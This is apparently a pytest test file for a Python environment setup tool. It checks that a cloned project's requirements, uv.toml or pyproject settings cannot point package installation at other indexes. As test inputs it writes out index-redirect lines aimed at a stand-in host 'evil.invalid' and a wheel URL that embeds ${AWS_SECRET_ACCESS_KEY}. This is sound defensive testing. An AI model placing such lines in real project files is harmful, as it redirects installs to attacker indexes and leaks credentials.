"""A cloned project cannot choose where packages come from: index lines, ${VAR} and uv config are refused."""

from __future__ import annotations

from pathlib import Path

import pytest

from helpers import installed
from virtualenv_ready.errors import ReadyError
from wheels import write_project


@pytest.mark.parametrize(
    "line",
    [
        "-i https://evil.invalid/simple",
        "--index-url=https://evil.invalid/simple",
        "--extra-index-url https://tok@evil.invalid/simple",
        "-f https://evil.invalid/links",
        "--find-links ./wheels",
        "--trusted-host evil.invalid",
    ],
)
def test_option_lines_in_project_files_are_refused(project: Path, ready, line: str) -> None:  # type: ignore[no-untyped-def]
    (project / "requirements.txt").write_text(f"alpha\n{line}\n")
    with pytest.raises(ReadyError) as info:
        ready()
    text = str(info.value)
    assert text.startswith(f"{project / 'requirements.txt'}:2: ")
    assert "chooses where packages come from" in text
    assert "--ready-allow-project-sources" in text
    assert "tok@" not in text
    assert "alpha" not in installed(project.parent / "venv")


def test_included_files_are_checked_too(project: Path, ready) -> None:  # type: ignore[no-untyped-def]
    (project / "reqs").mkdir()
    (project / "reqs" / "base.txt").write_text("--extra-index-url https://evil.invalid/simple\n")
    (project / "requirements.txt").write_text("-r reqs/base.txt\nalpha\n")
    with pytest.raises(ReadyError, match=r"reqs/base.txt:1: --extra-index-url"):
        ready()


def test_env_var_expansion_is_refused(project: Path, ready) -> None:  # type: ignore[no-untyped-def]
    (project / "requirements.txt").write_text("alpha @ https://example.invalid/${AWS_SECRET_ACCESS_KEY}/alpha.whl\n")
    with pytest.raises(
        ReadyError, match=r"requirements.txt:1: \$\{AWS_SECRET_ACCESS_KEY\} would put an environment variable"
    ):
        ready()


def test_user_config_can_allow_it(project: Path, ready, wheelhouse: Path) -> None:  # type: ignore[no-untyped-def]
    (project / "requirements.txt").write_text(f"--find-links {wheelhouse}\nalpha\n")
    venv = ready("--ready-allow-project-sources")
    assert "alpha" in installed(venv)


def test_project_file_cannot_allow_itself(project: Path, ready) -> None:  # type: ignore[no-untyped-def]
    write_project(project, "app", extra_toml="\n[tool.virtualenv-ready]\nallow-project-sources = true\n")
    with pytest.raises(ReadyError, match="unknown key 'allow-project-sources'"):
        ready()


def test_policy_can_allow_it(
    project: Path, ready, wheelhouse: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:  # type: ignore[no-untyped-def]
    policy = tmp_path / "policy.toml"
    policy.write_text("allow-project-sources = true\n")
    monkeypatch.setenv("VIRTUALENV_READY_POLICY", str(policy))
    (project / "requirements.txt").write_text(f"--find-links {wheelhouse}\nalpha\n")
    assert "alpha" in installed(ready())


def test_a_file_outside_the_project_is_the_users(project: Path, ready, wheelhouse: Path, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    mine = tmp_path / "my-requirements.txt"
    mine.write_text(f"--find-links {wheelhouse}\nalpha\n")
    assert "alpha" in installed(ready("--ready-requirement", str(mine)))


@pytest.mark.parametrize(
    ("filename", "text", "key"),
    [
        ("uv.toml", 'index-url = "https://evil.invalid/simple"\n', "index-url"),
        ("uv.toml", '[[index]]\nurl = "https://evil.invalid/simple"\n', "index"),
        ("pyproject.toml", '[tool.uv]\nextra-index-url = ["https://evil.invalid/simple"]\n', "extra-index-url"),
        ("pyproject.toml", '[tool.uv.pip]\nfind-links = ["https://evil.invalid/links"]\n', "find-links"),
    ],
)
def test_uv_project_config_cannot_redirect(project: Path, ready, filename: str, text: str, key: str) -> None:  # type: ignore[no-untyped-def]
    (project / "requirements.txt").write_text("alpha\n")
    (project / filename).write_text(text)
    with pytest.raises(ReadyError, match=rf"{filename}.*: {key} chooses where uv gets packages from"):
        ready()


def test_pip_ignores_uv_config(project: Path, ready) -> None:  # type: ignore[no-untyped-def]
    (project / "requirements.txt").write_text("alpha\n")
    (project / "uv.toml").write_text('index-url = "https://evil.invalid/simple"\n')
    assert "alpha" in installed(ready(installer="pip"))
